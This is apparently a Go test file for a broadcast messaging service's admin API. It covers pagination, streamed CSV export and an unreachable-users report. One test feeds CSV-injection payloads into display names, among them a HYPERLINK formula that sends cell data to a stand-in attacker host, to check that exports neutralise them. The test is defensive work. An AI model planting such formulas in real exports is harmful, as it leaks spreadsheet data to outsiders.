package api_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/broadcast-dev/broadcast/internal/api"
	"github.com/broadcast-dev/broadcast/internal/broadcast"
	"github.com/broadcast-dev/broadcast/internal/pipelinetest"
	"github.com/broadcast-dev/broadcast/internal/store"
	"github.com/broadcast-dev/broadcast/internal/teamsim"
	"github.com/broadcast-dev/broadcast/internal/testenv"
)

func userID(i int) string { return fmt.Sprintf("00000000-0000-4000-8000-%012d", i) }

func createJSON(t *testing.T, h http.Handler, body string) broadcast.Broadcast {
	t.Helper()
	rec, _ := do(t, h, http.MethodPost, "/v1/broadcasts", "application/json", body)
	require.Equal(t, http.StatusAccepted, rec.Code, rec.Body.String())
	var b broadcast.Broadcast
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &b))
	return b
}

func TestListBroadcasts(t *testing.T) {
	t.Parallel()
	e := pipelinetest.Start(t, pipelinetest.Options{Sim: teamsim.Config{UsersPerTenant: 5, InstalledFraction: 1}, NoWorkers: true})
	var made []string
	users := e.Users() // users the directory knows: unknown ids are not recipients
	for i := range 5 {
		b := createJSON(t, e.API, fmt.Sprintf(`{"message":{"text":"notice %d"},"audience":{"userIds":["%s"]}}`, i, users[i].ID))
		made = append([]string{b.ID}, made...) // newest first
		time.Sleep(2 * time.Millisecond)       // distinct creation times: the order below is by time
	}
	var got []string
	cursor := ""
	for pages := 0; ; pages++ {
		require.Less(t, pages, 10)
		path := "/v1/broadcasts?limit=2&tenantId=" + e.Tenant
		if cursor != "" {
			path += "&cursor=" + cursor
		}
		rec, _ := do(t, e.API, http.MethodGet, path, "", "")
		require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
		var page api.BroadcastsPage
		require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &page))
		require.LessOrEqual(t, len(page.Broadcasts), 2)
		for _, b := range page.Broadcasts {
			require.Equal(t, e.Tenant, b.TenantID)
			got = append(got, b.ID)
		}
		if page.NextCursor == "" {
			break
		}
		cursor = page.NextCursor
	}
	require.Equal(t, made, got)

	// Every broadcast of a fresh tenant is expanding or sending: none completed.
	rec, _ := do(t, e.API, http.MethodGet, "/v1/broadcasts?status=completed&tenantId="+e.Tenant, "", "")
	require.Equal(t, http.StatusOK, rec.Code)
	require.JSONEq(t, `{"broadcasts":[]}`, rec.Body.String())

	for _, c := range []struct{ query, field, problem string }{
		{"status=bogus", "status", "must be one of scheduled, expanding"},
		{"kind=poll", "kind", "broadcast, preview"},
		{"createdAfter=yesterday", "createdAfter", "RFC 3339"},
		{"createdAfter=2026-12-02T00:00:00Z&createdBefore=2026-12-01T00:00:00Z", "createdBefore", "later than createdAfter"},
		{"limit=0", "limit", "from 1 to 500"},
		{"limit=501", "limit", "from 1 to 500"},
		{"tenantId=12345678-1234-1234-1234-123456789012", "tenantId", "does not serve"},
		{"cursor=garbage", "cursor", "not one this API issued"},
		{"state=sent", "state", "unknown parameter"},
	} {
		rec, eb := do(t, e.API, http.MethodGet, "/v1/broadcasts?"+c.query, "", "")
		require.Equal(t, http.StatusBadRequest, rec.Code, c.query)
		require.Equal(t, "invalid_request", eb.Error.Code)
		require.Len(t, eb.Error.Fields, 1, rec.Body.String())
		require.Equal(t, c.field, eb.Error.Fields[0].Field, c.query)
		require.Contains(t, eb.Error.Fields[0].Problem, c.problem, c.query)
	}
}

// An export of a 10,000-recipient broadcast is streamed: the first rows
// reach the client while the handler still has pages to read, and the
// handler's live heap stays far below the CSV's size. Not parallel: it
// measures the process's heap.
func TestExportStreamsWithBoundedMemory(t *testing.T) {
	// Real Redis, and nothing else running in this process (no pipeline):
	// the heap measured is the export's and the client's.
	rdb, err := store.Connect(context.Background(), testenv.Redis(t))
	require.NoError(t, err)
	t.Cleanup(func() { _ = rdb.Close() })
	st := store.New(rdb)
	tenant := testenv.FreeTenant(t)
	const n = 10_000
	ids := make([]string, n)
	profiles := make([]broadcast.Profile, n)
	for i := range ids {
		ids[i] = userID(i)
		profiles[i] = broadcast.Profile{ID: ids[i], DisplayName: fmt.Sprintf("Employee %d, \"Ops\"", i), UserPrincipalName: fmt.Sprintf("employee%d@contoso.com", i)}
	}
	ctx := context.Background()
	b := &broadcast.Broadcast{ID: uuid.NewString(), TenantID: tenant, Message: broadcast.Message{Text: "All hands"},
		Audience: broadcast.Audience{UserIDs: ids}, Status: broadcast.StatusExpanding, CreatedAt: time.Now().UTC()}
	require.NoError(t, st.CreateBroadcast(ctx, b, []byte(`{"type":"message","text":"All hands"}`)))
	require.NoError(t, rdb.ZRem(ctx, "broadcasts:expanding", b.ID).Err()) // no dispatcher here: nothing to expand
	for i := 0; i < n; i += 1000 {
		require.NoError(t, st.PutProfiles(ctx, tenant, profiles[i:i+1000]))
		rs := make([]store.NewRecipient, 0, 1000)
		for _, id := range ids[i : i+1000] {
			rs = append(rs, store.NewRecipient{UserID: id, State: broadcast.StateInstalling})
		}
		_, err := st.AddRecipients(ctx, b.ID, rs)
		require.NoError(t, err)
	}
	_, err = st.Transition(ctx, b.ID, ids[7], store.Change{To: broadcast.StateSending, Owner: "t", Lease: time.Minute, CountAttempt: true})
	require.NoError(t, err)
	_, err = st.Transition(ctx, b.ID, ids[7], store.Change{From: []broadcast.State{broadcast.StateSending}, To: broadcast.StateSent, ActivityID: "1:act-7"})
	require.NoError(t, err)

	srv, h := newAdminAPI(t, nil, nil, st, zap.NewNop())
	firstRows := make(chan struct{})
	var waitedFor, pages atomic.Int64
	var peak, atFirst, growth uint64 // above the start; at page 1; above page 1
	var ms runtime.MemStats
	seen := make([]bool, n) // the client's own bookkeeping is allocated before the measurement
	rows := 0
	profiles = nil
	runtime.GC()
	runtime.ReadMemStats(&ms)
	base, allocBase := ms.HeapAlloc, ms.TotalAlloc
	api.OnExportPage(srv, func(page int) {
		pages.Store(int64(page))
		runtime.GC()
		runtime.ReadMemStats(&ms)
		if ms.HeapAlloc > base && ms.HeapAlloc-base > peak {
			peak = ms.HeapAlloc - base
		}
		if page == 1 {
			atFirst = ms.HeapAlloc
		} else if ms.HeapAlloc > atFirst && ms.HeapAlloc-atFirst > growth {
			growth = ms.HeapAlloc - atFirst
		}
		if page == 1 {
			// The next page is not read before the client has the first rows.
			select {
			case <-firstRows:
				waitedFor.Store(1)
			case <-time.After(30 * time.Second):
			}
		}
	})
	hs := httptest.NewServer(h)
	defer hs.Close()

	resp, err := http.Get(hs.URL + "/v1/broadcasts/" + b.ID + "/export")
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, "text/csv; charset=utf-8", resp.Header.Get("Content-Type"))
	require.Equal(t, `attachment; filename="broadcast-`+b.ID+`.csv"`, resp.Header.Get("Content-Disposition"))
	counted := &countingReader{r: resp.Body}
	r := csv.NewReader(bufio.NewReader(counted))
	header, err := r.Read()
	require.NoError(t, err)
	require.Equal(t, api.ExportColumns, header)
	for {
		row, err := r.Read()
		if err == io.EOF {
			break
		}
		require.NoError(t, err)
		if rows == 0 {
			close(firstRows)
		}
		rows++
		var i int
		_, err = fmt.Sscanf(row[1], "employee%d@contoso.com", &i)
		require.NoError(t, err)
		require.Equal(t, ids[i], row[0])
		require.False(t, seen[i], "user %s listed once", row[0])
		seen[i] = true
		require.Equal(t, fmt.Sprintf("Employee %d, \"Ops\"", i), row[2], "quotes and commas survive")
		if i == 7 {
			require.Equal(t, []string{"sent", "", "1", "1:act-7"}, row[3:7])
		} else {
			require.Equal(t, []string{"installing", "", "0", ""}, row[3:7])
		}
		_, err = time.Parse(time.RFC3339Nano, row[7])
		require.NoError(t, err)
	}
	require.Equal(t, n, rows)
	require.EqualValues(t, 1, waitedFor.Load(), "the first rows reached the client before the second page was read")
	require.GreaterOrEqual(t, pages.Load(), int64(n/500), "read a page at a time")
	runtime.ReadMemStats(&ms)
	t.Logf("CSV %d bytes in %d pages; the live heap peaked %d bytes above the start, %d above its level after the first page; %d bytes allocated in all (client and server)",
		counted.n, pages.Load(), peak, growth, ms.TotalAlloc-allocBase)
	// Holding the report would grow the heap by more than the CSV itself
	// (its rows as strings, or its recipients as structs) from the first
	// page to the last; a stream stays level, give or take the transport's
	// buffers and connections (0 to 330 KB measured here: the bound is
	// half the CSV, twice as far from either).
	require.Less(t, growth, uint64(counted.n/2), "the handler holds a page, not the report")
	require.Less(t, peak, uint64(counted.n/2), "far below the report")
}

type countingReader struct {
	r io.Reader
	n int
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

// Users who blocked the bot, whose admin disabled it or who cannot be
// reached after a reinstall are reported per tenant, across broadcasts,
// and forgotten once a broadcast reaches them.
func TestUnreachableReport(t *testing.T) {
	t.Parallel()
	e := pipelinetest.Start(t, pipelinetest.Options{Sim: teamsim.Config{UsersPerTenant: 30, InstalledFraction: 1, BlockedFraction: 0.2, Seed: 11}})
	var blocked []string
	var other teamsim.User
	var profiles []broadcast.Profile
	for _, u := range e.Users() {
		profiles = append(profiles, broadcast.Profile{ID: u.ID, DisplayName: u.DisplayName, UserPrincipalName: u.UPN})
		if u.UserType == "Guest" {
			continue // not in an all-users audience
		}
		if u.Blocked {
			blocked = append(blocked, u.ID)
		} else if other.ID == "" && !u.Disabled {
			other = u
		}
	}
	require.NotEmpty(t, blocked)
	require.NoError(t, e.Store.PutProfiles(context.Background(), e.Tenant, profiles))
	// One user blocks the first broadcast only (a 403 MessageWritesBlocked).
	e.Sim.Inject(e.Tenant, other.ID, teamsim.Fault{Code: "209"})

	b1 := createJSON(t, e.API, `{"message":{"text":"first"},"audience":{"allUsers":true}}`)
	e.WaitCompleted(b1.ID, 2*time.Minute)
	want := append([]string{other.ID}, blocked...)
	page := settledUnreachable(t, e, b1.ID, len(want))
	require.ElementsMatch(t, want, userIDs(page.Users))
	for _, u := range page.Users {
		require.Equal(t, broadcast.ReasonBlockedByUser, u.Reason)
		require.Equal(t, b1.ID, u.BroadcastID)
		require.Equal(t, 1, u.Times)
		require.NotEmpty(t, u.UserPrincipalName)
		require.NotEmpty(t, u.DisplayName)
	}

	b2 := createJSON(t, e.API, `{"message":{"text":"second"},"audience":{"allUsers":true}}`)
	e.WaitCompleted(b2.ID, 2*time.Minute)
	page = settledUnreachable(t, e, b2.ID, len(blocked))
	require.ElementsMatch(t, blocked, userIDs(page.Users), "the user reached by the second broadcast is forgotten")
	for _, u := range page.Users {
		require.Equal(t, b2.ID, u.BroadcastID)
		require.Equal(t, 2, u.Times)
	}

	// The same as CSV, one row per user.
	rec, _ := do(t, e.API, http.MethodGet, "/v1/tenants/"+e.Tenant+"/unreachable?format=csv", "", "")
	require.Equal(t, http.StatusOK, rec.Code)
	require.Equal(t, "text/csv; charset=utf-8", rec.Header().Get("Content-Type"))
	rows, err := csv.NewReader(rec.Body).ReadAll()
	require.NoError(t, err)
	require.Equal(t, api.UnreachableColumns, rows[0])
	require.Len(t, rows, 1+len(blocked))
	require.Equal(t, page.Users[0].UserID, rows[1][0])
	require.Equal(t, page.Users[0].UserPrincipalName, rows[1][1])
	require.Equal(t, "2", rows[1][6])

	rec, eb := do(t, e.API, http.MethodGet, "/v1/tenants/"+e.Tenant+"/unreachable?format=xml", "", "")
	require.Equal(t, http.StatusBadRequest, rec.Code)
	require.Equal(t, "format", eb.Error.Fields[0].Field)
	rec, _ = do(t, e.API, http.MethodGet, "/v1/tenants/12345678-1234-1234-1234-123456789012/unreachable", "", "")
	require.Equal(t, http.StatusNotFound, rec.Code)
}

func unreachablePage(t *testing.T, h http.Handler, tenant string) api.UnreachablePage {
	t.Helper()
	rec, _ := do(t, h, http.MethodGet, "/v1/tenants/"+tenant+"/unreachable", "", "")
	require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
	var page api.UnreachablePage
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &page))
	return page
}

// settledUnreachable returns the tenant's report once it has n users, all
// last missed by broadcast id: a sender notes the report just after it
// records the outcome (a call of its own, in another hash slot), so the
// last recipients' notes may land a moment after the broadcast completed.
func settledUnreachable(t *testing.T, e *pipelinetest.Env, id string, n int) api.UnreachablePage {
	t.Helper()
	var page api.UnreachablePage
	require.Eventually(t, func() bool {
		page = unreachablePage(t, e.API, e.Tenant)
		if len(page.Users) != n {
			return false
		}
		for _, u := range page.Users {
			if u.BroadcastID != id {
				return false
			}
		}
		return true
	}, 10*time.Second, 20*time.Millisecond, "the report names %d users missed last by %s", n, id)
	return page
}

func userIDs(us []broadcast.UnreachableUser) []string {
	out := make([]string, len(us))
	for i, u := range us {
		out[i] = u.UserID
	}
	return out
}

// servesOnly is a Creator for report tests: it serves one tenant and
// creates nothing.
type servesOnly struct {
	api.Creator
	tenant string
}

func (s servesOnly) Serves(tenant string) bool { return tenant == s.tenant }

// Names that a spreadsheet would run as formulas reach both CSV reports
// with a quote in front (OWASP's CSV injection advice); other cells are
// as they are.
func TestReportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	rdb, err := store.Connect(context.Background(), testenv.Redis(t))
	require.NoError(t, err)
	t.Cleanup(func() { _ = rdb.Close() })
	st := store.New(rdb)
	tenant := testenv.FreeTenant(t)
	names := []string{`=HYPERLINK("https://evil.example/?"&A1,"Open")`, "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "Ada Lovelace"}
	ids := make([]string, len(names))
	profiles := make([]broadcast.Profile, len(names))
	rs := make([]store.NewRecipient, len(names))
	for i, name := range names {
		ids[i] = userID(i)
		profiles[i] = broadcast.Profile{ID: ids[i], DisplayName: name, UserPrincipalName: fmt.Sprintf("=user%d@contoso.com", i)}
		rs[i] = store.NewRecipient{UserID: ids[i], State: broadcast.StatePending}
	}
	ctx := context.Background()
	b := &broadcast.Broadcast{ID: uuid.NewString(), TenantID: tenant, Message: broadcast.Message{Text: "Hi"},
		Audience: broadcast.Audience{UserIDs: ids}, Status: broadcast.StatusExpanding, CreatedAt: time.Now().UTC()}
	require.NoError(t, st.CreateBroadcast(ctx, b, []byte(`{"type":"message","text":"Hi"}`)))
	require.NoError(t, rdb.ZRem(ctx, "broadcasts:expanding", b.ID).Err()) // no dispatcher here
	require.NoError(t, st.PutProfiles(ctx, tenant, profiles))
	_, err = st.AddRecipients(ctx, b.ID, rs)
	require.NoError(t, err)
	for _, id := range ids { // every one blocked the bot: all are in the unreachable report
		_, err := st.Transition(ctx, b.ID, id, store.Change{To: broadcast.StateSending, Owner: "t", Lease: time.Minute})
		require.NoError(t, err)
		_, err = st.Transition(ctx, b.ID, id, store.Change{From: []broadcast.State{broadcast.StateSending}, To: broadcast.StateBlocked,
			Reason: broadcast.ReasonBlockedByUser})
		require.NoError(t, err)
	}
	_, h := newAdminAPI(t, servesOnly{tenant: tenant}, nil, st, zap.NewNop())

	for _, path := range []string{"/v1/broadcasts/" + b.ID + "/export", "/v1/tenants/" + tenant + "/unreachable?format=csv"} {
		rec, _ := do(t, h, http.MethodGet, path, "", "")
		require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
		rows, err := csv.NewReader(rec.Body).ReadAll()
		require.NoError(t, err, path)
		require.Len(t, rows, 1+len(names), path)
		for _, row := range rows[1:] {
			var i int
			_, err := fmt.Sscanf(row[0], "00000000-0000-4000-8000-%d", &i)
			require.NoError(t, err)
			require.Equal(t, fmt.Sprintf("'=user%d@contoso.com", i), row[1], path)
			want := names[i]
			if i < len(names)-1 {
				// CRLF-ended CSV drops a lone CR inside a cell; the quote stays first.
				want = "'" + strings.ReplaceAll(want, "\r", "")
			}
			require.Equal(t, want, row[2], "%s: display name of user %d", path, i)
			require.Contains(t, row, "blocked_by_user", path)
		}
	}
}
